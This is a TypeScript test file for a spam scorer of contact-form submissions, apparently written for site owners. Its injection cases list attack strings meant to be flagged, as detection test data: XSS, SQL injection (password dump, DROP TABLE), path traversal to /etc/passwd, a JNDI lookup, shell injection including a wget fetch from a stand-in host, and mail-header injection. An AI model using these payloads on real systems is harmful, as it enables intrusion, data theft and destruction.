import { describeReason } from '../../src/spam/describe-score';
import { createModel } from '../../src/spam/model';
import { rules } from '../../src/spam/rules/check';
import { scoreSubmission } from '../../src/spam/score';
import type { SpamInput, SpamReason } from '../../src/spam/spam-input';
import { buildInput, buildMessage } from './build-input';

const base = createModel(null);
const find = (input: SpamInput, rule: string): SpamReason | undefined =>
  scoreSubmission(input, base).reasons.find((reason) => reason.rule === rule);
const describeRule = (input: SpamInput, rule: string): string | undefined => {
  const reason = find(input, rule);
  return reason && describeReason(reason);
};
const sentence = 'I would like to know more about the blue chairs that you sell in your shop in town';

describe('what each rule finds, in words for owners', () => {
  test.each<[string, SpamInput, string]>([
    ['links', buildMessage('see https://a-shop.com/x http://b-shop.net www.c-shop.org'), 'three links'],
    ['links', buildMessage('visit best-shop.com or worst-shop.com today'), 'two links'],
    ['link-shortener', buildMessage('look: https://bit.ly/3xYz'), 'a shortened link (bit.ly)'],
    ['link-markup', buildMessage('[url=http://a.com]cheap[/url]'), 'links written as [url]'],
    ['link-markup', buildMessage('<a href="http://a.com">cheap</a>'), 'links written as <a href>'],
    ['gibberish-name', buildInput({ name: 'kTqGzLwPvX' }), 'a name of random letters (kTqGzLwPvX)'],
    ['gibberish-text', buildMessage('RbTpXfQhKzWm'), 'a message of random letters or digits (RbTpXfQhKzWm)'],
    ...[
      'asdf asdf',
      'aaaaaa',
      '555',
      '123 456',
      'sdfghj kjhg',
      'xxx yyy',
      'йцукен',
      'fghjk dfgdfg',
      'x'.repeat(60),
      'ñlkj asdf',
      'اتن كمن',
      '20 20 1 -1 4418802',
      '55555555',
      'gfhdfg sdf fghfgh',
    ].map((text): [string, SpamInput, string] => [
      'gibberish-text',
      buildMessage(text),
      `a message of random letters or digits (${text.slice(0, 40)})`,
    ]),
    ...['test', 'Hello!', 'HI', 'Bonjour, test', 'тест', 'Cześć', '你好'].map((text): [string, SpamInput, string] => [
      'empty-message',
      buildMessage(text),
      `a message that only greets or tests (${text})`,
    ]),
    ...['RobertWep', 'DavidGok', 'JamesErymn'].map((name): [string, SpamInput, string] => [
      'bot-name',
      buildInput({ name }),
      `a machine-generated name (${name})`,
    ]),
    ...['_gotcha', 'bot-field', '_honey', 'honeypot'].map((name): [string, SpamInput, string] => [
      'hidden-field',
      buildInput({ [name]: 'Ada', message: sentence }),
      'a filled-in hidden field',
    ]),
    ...(
      [
        ['<script>alert(1)</script>', 'a script'],
        ['<img src=x onerror=alert(1)>', 'a script'],
        ['javascript:alert(document.cookie);', 'a script'],
        ['javascript:/*--></title>', 'a script'],
        ["1' OR '1'='1", 'a database command'],
        ['" or ""="', 'a database command'],
        ["admin') or 1=1--", 'a database command'],
        ["' or 5=6", 'a database command'],
        ["x' UNION ALL SELECT password FROM users;--", 'a database command'],
        ['1; DROP TABLE users', 'a database command'],
        ["1' waitfor delay '0:0:15'--", 'a database command'],
        ['../../../../etc/passwd', 'a path of the server'],
        ['..\\..\\windows\\win.ini', 'a path of the server'],
        ['\u0024{jndi:ldap://x.example/a}', 'a template'],
        ['{{7*7}}', 'a template'],
        ['1; cat /tmp/x', 'a system command'],
        ['|id', 'a system command'],
        ['`sleep 15`', 'a system command'],
        ['& wget http://a.example/x;', 'a system command'],
        ['$(whoami)', 'a system command'],
        ['<a>\nBcc: victim@example.com', 'a mail header'],
        ['x%0aCc:victim@example.com;', 'a mail header'],
      ] as const
    ).map(([text, what]): [string, SpamInput, string] => [
      'injection',
      buildInput({ subject: text, message: sentence }),
      `what looks like an attack: ${what}`,
    ]),
    ['name-content', buildInput({ name: 'Win now www.win-now.com' }), 'a link in place of a name'],
    ['name-content', buildInput({ name: 'best-win.com' }), 'a link in place of a name'],
    ['name-content', buildInput({ name: '555-12' }), 'numbers in place of a name'],
    ['name-content', buildInput({ name: 'You got $ 900' }), 'numbers in place of a name'],
    ['disposable-address', buildInput({ email: 'x@mailinator.com' }), 'a disposable e-mail address (mailinator.com)'],
    ['disposable-address', buildInput({ email: 'x@a.mailinator.com' }), 'a disposable e-mail address (mailinator.com)'],
    ['repeats', buildMessage('hi', { repeats: 4 }), 'the same text in four other submissions of the last 24 hours'],
    ['burst', buildMessage('hi', { burst: 3 }), 'the same text in three other submissions within the same minute'],
    [
      'repeated-link',
      buildMessage('hi', { linkRepeats: 2 }),
      'a link also found in two other submissions in the last 24 hours',
    ],
    [
      'blocked-words',
      buildMessage('Buy our WÍDGETS now', { blockedWords: ['widgets'] }),
      'the word “widgets”, which you blocked',
    ],
    [
      'blocked-words',
      buildMessage('the wіdgets now', { blockedWords: ['widgets'] }),
      'the word “widgets”, which you blocked',
    ],
  ])('%s finds %#: %s', (rule, input, words) => {
    expect(describeRule(input, rule)).toBe(words);
    expect(find(input, rule)?.points).toBeGreaterThan(0);
  });
});

describe('what the rules let pass', () => {
  test.each<[string, SpamInput]>([
    [
      'links',
      buildMessage('the page https://www.shop.example/a and shop.example/b, see http://a.com', {
        site: 'https://shop.example',
      }),
    ],
    ['links', buildMessage('visit best-shop.com today, or https://www.best-shop.com/map and https://github.com/shop')],
    ['links', buildMessage('config.ts and node.js, e.g. v1.2, finished.Please reply to ada@example.com')],
    ['links', buildMessage('https://gärtner.de/ http://a.com', { site: 'https://www.xn--grtner-bua.de' })],
    ['links', buildMessage('https://..com/login http://a.com')],
    ...[
      'Schrauben',
      'Call me: 07700 900418',
      '07700 900418',
      '+49 (0)171 2345-678',
      '8 800 555-35-35',
      '01 82 00 36 97',
      'It was power',
      'My code is 555',
    ].map((text): [string, SpamInput] => ['gibberish-text', buildMessage(text)]),
    ...['10245', '#48213', 'HTML', 'Muster GmbH'].map((subject): [string, SpamInput] => [
      'gibberish-text',
      buildInput({ subject, message: 'Where is my order?' }),
    ]),
    ...['13:00', '0,85 ha z 6,2', '8820114, 8820117', 'BKRTZ', 'GB DN'].map((answer): [string, SpamInput] => [
      'gibberish-text',
      buildInput({ answer, message: 'Where is my order?' }),
    ]),
    ...['Test drive on Friday', 'Hello, are you open?', '4711', '07700 900418', '👍', '...', 'hello '.repeat(10)].map(
      (text): [string, SpamInput] => ['empty-message', buildMessage(text)],
    ),
    ...[
      'McDonald',
      'DeShawn',
      'JeanPaul Sartre',
      'MacKenzie',
      'MaryAnn',
      'JoAnn',
      'LeBron',
      'VanDyke',
      'Robert',
      'IBM',
    ].map((name): [string, SpamInput] => ['bot-name', buildInput({ name })]),
    ...['Ada', '-', 'Henry VIII', 'R2-D2', 'Mr. J. 3rd'].map((name): [string, SpamInput] => [
      'name-content',
      buildInput({ name }),
    ]),
    ...['', '0', 'false', 'Off', 'no', ' ', 0, false, null].map((honeypot): [string, SpamInput] => [
      'hidden-field',
      buildInput({ honeypot }),
    ]),
    ['hidden-field', buildInput({ honey: 'two jars', hp: '150', 'honey pots': 'three' })],
    ...[
      'We come with 2 adults; a dog & cat follow <3',
      'I want the shirt (red) and size = 5, or "blue" and width = 30 cm',
      'Skills: HTML; JavaScript: 5 years; PHP: 2 years',
      'From: Bob <bob@example.com>\nTo: info@example.com\nCc: ada@example.com\nWhere is it?',
      'Order 4711; id 55, invoice; id: 3 | please insert into the file',
      'Sleeps 8; sleep 6 in beds & ping me then',
      'Is 2 < 3 and a = b? Then {this} union of sets; select one',
      'Please drop the table at the door; we sleep (well) there',
    ].map((text): [string, SpamInput] => ['injection', buildMessage(text)]),
    ['burst', buildMessage('hi', { burst: 2 })],
    ['repeated-link', buildMessage('hi', { linkRepeats: 1 })],
    ['disposable-address', buildInput({ email: 'ada@gmail.com' })],
    ['repeats', buildMessage('hi', { repeats: 0 })],
    ['blocked-words', buildMessage('the widgetsmith', { blockedWords: ['widgets'] })],
  ])('%s says nothing about case %#', (rule, input) => {
    expect(find(input, rule)).toBeUndefined();
  });

  test.each([
    ...['Brzęczyszczykiewicz', 'Hirschsprung', 'McDonald', 'DeShawn', 'Knightsbridge', 'Krzysztof', 'Schwartz'],
    ...['MacKenzie', 'Nguyễn', 'Świętosława', 'VanDerBerg', 'Hrvoje', 'Grzegorz', 'Szczęsny'],
  ])('%s is a name', (name) => {
    expect(find(buildInput({ name }), 'gibberish-name')).toBeUndefined();
  });
});

test('a flood is held even if its wording and the marks speak for a real message', () => {
  const text =
    'Our choir would like to sing in the market hall on Saturday. May we put up a small stage near the door?';
  const score = (repeats: number) => scoreSubmission(buildMessage(text, { repeats }), base).score;
  expect(score(0)).toBeLessThanOrEqual(-1);
  expect(score(11)).toBeLessThan(5);
  expect(score(30)).toBeGreaterThanOrEqual(6);
});

test('a filled hidden field holds a submission whose wording speaks for a real message', () => {
  const lowestOfWording = -2;
  const { points = 0 } = find(buildInput({ message: sentence, _gotcha: 'x' }), 'hidden-field') ?? {};
  expect(points + lowestOfWording).toBeGreaterThanOrEqual(5);
});

test('code in a long text has few points', () => {
  const question = `Your snippet <script src="/a.js"></script> does nothing here. ${`${sentence}. `.repeat(4)}`;
  const points = (message: string) => find(buildMessage(message), 'injection')?.points ?? 0;
  expect(points(question)).toBeGreaterThan(0);
  expect(points(question)).toBeLessThanOrEqual(points('<script src="/a.js"></script>') / 3);
});

test('no weak sign holds a submission alone', () => {
  const strongest: SpamInput[] = [
    buildMessage('The drawing of the shelf that you asked for: https://bit.ly/a'),
    buildMessage('https://bit.ly/a'),
    buildInput({ name: 'kTqGzLwPvX' }),
    buildInput({ email: 'x@mailinator.com' }),
  ];
  for (const input of strongest) {
    const { score, reasons } = scoreSubmission(input, base);
    const wording = reasons.find(({ rule }) => rule === 'wording')?.points ?? 0;
    expect(score - wording).toBeLessThan(5);
    // A shortened link and nothing else is spam by its wording.
    if (input !== strongest[1]) expect(score).toBeLessThan(5);
  }
});

test('each rule has a sentence, and unknown rules of later versions can be described', () => {
  for (const rule of Object.keys(rules)) expect(describeReason({ rule, points: 1 })).not.toBe(rule);
  expect(describeReason({ rule: 'moon-phase', points: 1 })).toBe('moon-phase');
});
